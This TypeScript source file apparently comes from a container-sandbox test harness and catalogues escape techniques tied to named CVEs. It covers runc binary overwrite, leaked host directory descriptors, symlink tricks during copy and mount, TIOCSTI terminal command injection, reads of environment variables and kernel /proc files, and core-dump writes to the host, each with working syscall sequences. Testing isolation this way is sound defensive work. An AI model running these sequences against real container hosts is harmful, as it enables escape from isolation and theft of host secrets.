/** D and F: bugs of engines, and side doors. */
import { AT_FDCWD, O_RDWR, O_TRUNC, O_WRONLY } from '../../abi/fcntl.ts';
import { MARK, deface, drain, open, plant, steal } from '../guest/moves.ts';
import { ON_HOST, exploitable, given } from '../twins.ts';
import type { Field, Grants, Technique } from '../types.ts';

const granted = ({ granted: directory }: Field): Grants => ({ mounts: [{ source: directory, destination: directory, writable: true }] });
const CARELESS = 'an engine that follows links of its guest';
const O_PATH_ONLY = 0x20_0000;
const TIOCSTI = 0x5412;
const TIOCLINUX = 0x541c;
const FIRST_LEAKED = 3;
const DESCRIPTORS = 61;

export const ENGINE_TECHNIQUES: readonly Technique[] = [
  {
    name: 'engine-program', kind: 'D', title: 'The engine\'s own program is written over', source: 'CVE-2019-5736; CDK runc-pwn', needs: 'runc before 1.0-rc7', isHarmless: false,
    program: (guest) => {
      for (const path of ['/proc/self/exe', '/proc/1/exe', '/proc/2/exe', '/proc/self/fd/3']) {
        const reference = open(guest, path, O_PATH_ONLY);
        deface(guest, path, '#!/drill\n', O_WRONLY | O_TRUNC);
        guest.sys('close', reference);
      }
    },
    twin: exploitable('openat', 'an engine whose program is in the guest\'s /proc'),
  },
  {
    name: 'leaked-descriptor', kind: 'D', title: 'A directory of the host is open in the container', source: 'CVE-2024-21626; CVE-2016-9962', needs: 'runc before 1.1.12', isHarmless: true,
    program: (guest) => {
      const found = guest.variable(-1);
      guest.repeat(DESCRIPTORS, (fd) => {
        for (const path of ['secret', '../secret', '../../../../../../../etc/machine-id']) {
          const file = guest.sys('openat', fd, guest.text(path), 0, 0);
          guest.when(file, '>=', 0, () => {
            guest.set(found, fd);
            drain(guest, file);
            guest.sys('close', file);
          });
        }
        guest.when(guest.sys('fchdir', fd), '==', 0, () => {
          const file = guest.sys('openat', AT_FDCWD, guest.text('secret'), 0, 0);
          guest.when(file, '>=', 0, () => drain(guest, file));
          guest.sys('chdir', guest.text('/'));
        });
      }, FIRST_LEAKED);
      guest.tell('a descriptor that leads somewhere', found);
    },
    twin: { what: 'a process that inherits a descriptor of a directory', on: 'host', leaks: true },
  },
  {
    name: 'copy-in-through-link', kind: 'D', title: 'A copy into the container is led to the host by a link', source: 'CVE-2018-15664; CVE-2019-14271', needs: '"docker cp" into a container that runs', isHarmless: false, grants: granted,
    program: (guest, { granted: directory, keptFile }) => {
      guest.sys('unlink', guest.text(`${directory}/hosts`));
      guest.attempt('make a link', 'symlink', guest.text(keptFile), guest.text(`${directory}/hosts`));
    },
    afterwards: async (hands, { granted: directory }) => {
      await hands.copyIn(`${directory}/hosts`, MARK);
      return '';
    },
    twin: { what: CARELESS, on: 'sandbox' },
  },
  {
    name: 'link-at-start', kind: 'D', title: 'A link in the root directory stands where the engine puts a file or a mount', source: 'CVE-2021-30465; CVE-2019-16884; CVE-2025-31133; CVE-2025-52565; CVE-2025-52881', needs: 'an image with links at /etc/hosts, /dev/null, /proc', isHarmless: false,
    mayBeRefused: true,
    grants: ({ keptFile, directory }) => ({
      links: [['etc/hosts', keptFile], ['etc/resolv.conf', keptFile], ['etc/hostname', keptFile], ['dev/null', keptFile], ['dev/console', keptFile], ['way', directory], ['sys/fs', directory]], net: 'outbound',
    }),
    program: (guest) => {
      deface(guest, '/dev/null');
      deface(guest, '/etc/hosts');
      steal(guest, '/way/secret');
      deface(guest, '/way/kept');
    },
    afterwards: async (hands, { root }) => {
      await hands.copyIn(`${root}/etc/hosts`, MARK);
      return '';
    },
    twin: { what: CARELESS, on: 'sandbox' },
  },
  {
    name: 'mount-through-link', kind: 'D', title: 'A mount is put on a link that leads to the host', source: 'CVE-2021-30465; CVE-2021-25741', needs: 'an image with a link where a mount goes', isHarmless: false, mayBeRefused: true,
    grants: ({ directory, readable }) => ({ links: [['way', directory]], mounts: [{ source: readable, destination: '/way/made', writable: true }] }),
    program: (guest) => {
      steal(guest, '/way/secret');
      plant(guest, '/way/planted');
    },
    afterwards: async (hands, { root }) => {
      await hands.copyIn(`${root}/way/kept`, MARK);
      return '';
    },
    twin: { what: CARELESS, on: 'sandbox', grants: ({ directory }) => ({ links: [['way', directory]] }) },
  },
  {
    name: 'terminal-input', kind: 'F', title: 'Commands are typed into the terminal of whoever started it', source: 'CVE-2016-2781; CVE-2017-5226', needs: 'a terminal that is shared', isHarmless: false,
    program: (guest) => {
      const terminal = open(guest, '/dev/tty', O_RDWR);
      for (const fd of [0, 1, 2, terminal]) {
        for (const character of 'id\n') guest.sys('ioctl', fd, TIOCSTI, guest.text(character));
        guest.attempt('TIOCSTI', 'ioctl', fd, TIOCSTI, guest.text('\n'));
        guest.attempt('paste what is selected', 'ioctl', fd, TIOCLINUX, guest.bytes([3]));
      }
    },
    twin: exploitable('ioctl', 'a terminal that takes it for typed'),
  },
  {
    name: 'environment', kind: 'F', title: 'Variables of whoever started it are read', source: 'botb; CWE-526', needs: 'an engine that passes its environment on', path: 'secrets-in-environment', isHarmless: true,
    program: (guest) => {
      for (const who of ['self', '1', 'thread-self']) steal(guest, `/proc/${who}/environ`);
      guest.loot(guest.stackAtStart, 0x600);
      for (const path of ['/proc/self/auxv', '/proc/self/cmdline', '/proc/1/cmdline']) steal(guest, path);
    },
    twin: ON_HOST,
  },
  {
    name: 'kernel-files', kind: 'F', title: 'Files of the host\'s kernel that engines mask are read', source: 'OCI runtime-spec maskedPaths', needs: '/proc without masks', isHarmless: false,
    program: (guest) => {
      for (const name of ['kcore', 'keys', 'timer_list', 'sched_debug', 'iomem', 'slabinfo', 'vmallocinfo', 'latency_stats', 'config.gz']) steal(guest, `/proc/${name}`);
      steal(guest, '/host/proc/kcore');
      for (const path of ['/sys/firmware/efi/efivars', '/sys/firmware/dmi/tables/DMI', '/sys/devices/virtual/powercap']) steal(guest, path);
    },
    twin: given('/host/proc/kcore', 'the host\'s memory is mounted below /host'),
  },
  {
    name: 'core-dump', kind: 'F', title: 'A crash writes to the host', source: 'CVE-2022-0811; core(5)', needs: 'a directory of the host that can be written, and core dumps', isHarmless: false, grants: granted,
    program: (guest, { granted: directory }) => {
      guest.attempt('no limit for core files', 'prlimit64', 0, 4, guest.words(-1, -1), 0);
      guest.attempt('into the mount', 'chdir', guest.text(`${directory}`));
      guest.sys('mkdir', guest.text('away'), 0o777);
      for (const link of ['core', 'away/core']) guest.sys('symlink', guest.text('../kept'), guest.text(link));
      const child = guest.fork(() => void guest.sys('kill', guest.sys('getpid'), 11));
      guest.tell('how it crashed', guest.wait(child));
    },
    twin: exploitable('kill', 'a kernel that follows the link'),
  },
];

